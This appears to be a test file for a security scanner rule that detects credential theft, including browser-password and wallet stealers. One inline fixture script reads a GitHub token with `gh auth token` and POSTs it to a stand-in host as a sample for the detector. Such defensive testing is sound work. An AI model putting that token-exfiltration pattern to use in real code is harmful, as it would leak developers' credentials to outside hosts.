import assert from 'node:assert/strict';
import { fileURLToPath } from 'node:url';
import { it } from 'node:test';
import { describeFixtures, findingsOf, scanFixture, tempRepo } from '../../../../test/helpers/fixtures.ts';
import rule from './rule.ts';

describeFixtures(rule, import.meta.url);

const fixture = (name: string): string => fileURLToPath(new URL(`./fixtures/${name}`, import.meta.url));

it('is critical when browser passwords and a wallet extension are uploaded to another machine', async () => {
  const report = await scanFixture(fixture('match/browser-stealer'));
  const hits = findingsOf(report, rule.meta.id);
  assert.deepEqual(
    hits.map(f => [f.severity, f.location.file, f.location.line]),
    [['critical', 'lib/collect.js', 7]],
  );
});

it('is low, not critical, when a wallet key is read with no way out, and critical once it is sent', async () => {
  const kept = await scanFixture(fixture('benign/wallet-key-local-read'));
  assert.deepEqual(
    findingsOf(kept, rule.meta.id).map(f => [f.severity, f.location.line]),
    [['low', 3]],
  );
  const sent = await scanFixture(fixture('match/wallet-key-sent'));
  assert.deepEqual(
    findingsOf(sent, rule.meta.id).map(f => [f.severity, f.location.line]),
    [['critical', 3]],
  );
});

it('names a secret read from a command as a noun in the message', async () => {
  const dir = tempRepo({
    'package.json': '{"name":"triage","private":true}',
    'scripts/triage.js': [
      "const { execSync } = require('node:child_process');",
      "const token = execSync('gh auth token').toString().trim();",
      "fetch('https://triage.example.invalid/report', { method: 'POST', body: token });",
      '',
    ].join('\n'),
  });
  const [f] = findingsOf(await scanFixture(dir), 'code/credential-access');
  assert.match(f?.message ?? '', /^This file reaches for a secret from `gh auth token`/);
});
